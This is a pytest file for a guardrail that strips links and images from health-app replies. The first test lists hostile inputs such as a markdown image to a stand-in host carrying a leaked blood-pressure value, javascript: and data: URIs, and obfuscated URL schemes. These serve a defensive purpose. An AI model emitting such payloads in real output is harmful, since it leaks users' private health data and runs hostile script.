"""A reply holds no link and no image, however it is written; its words stay."""

import pytest

from vitasense.guardrails import strip_links_and_images


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/leak?d=142)",
        "![x](<https://evil.example/a b>)",
        "[see](https://evil.example/a_(b))",
        "[see [more]](https://evil.example)",
        "[see][1]\n\n[1]: https://evil.example",
        "<https://evil.example>",
        "https://evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        "hxxps://evil.example",
        "//evil.example/pixel.png",
        "www.evil.example/x",
        "evil.example/leak?d=142",
        "evil.com",
        '<img src="https://evil.example/x.png">',
        "<img src=https://evil.example/x.png",
        "<a href='javascript:alert(1)'>go</a>",
        "javascript:alert(1)",
        "data:text/html;base64,evil",
        "ht\u200btps://evil.example",
        "![x]\n(https://evil.example)",
        "mailto:evil@evil.example",
    ],
)
def test_an_address_does_not_stay(markdown: str) -> None:
    stripped = strip_links_and_images(f"Your value is 142/88 mmHg. {markdown}").lower()
    assert stripped.startswith("your value is 142/88 mmhg.")
    assert "evil." not in stripped
    assert "http" not in stripped
    assert "<" not in stripped
    assert "javascript" not in stripped


@pytest.mark.parametrize(
    "text",
    [
        "Hemoglobin A1c/Hemoglobin.total in Blood is 7.2%.",
        "eGFR <60 mL/min/1.73m2 and K >5.5 mmol/L",
        "Take 1-2 tablets (at most 8) [see below], e.g. at 8 a.m./p.m.",
        "CYP2C19*17/*2, HLA-B*57:01",
        "It rose.In May it fell.",
        "1. First\n2. Second\n- **bold** and _plain_",
    ],
)
def test_clinical_words_stay(text: str) -> None:
    assert strip_links_and_images(text) == text


def test_the_words_of_a_link_stay() -> None:
    assert strip_links_and_images("Ask [your doctor](https://x.example) soon") == "Ask your doctor soon"
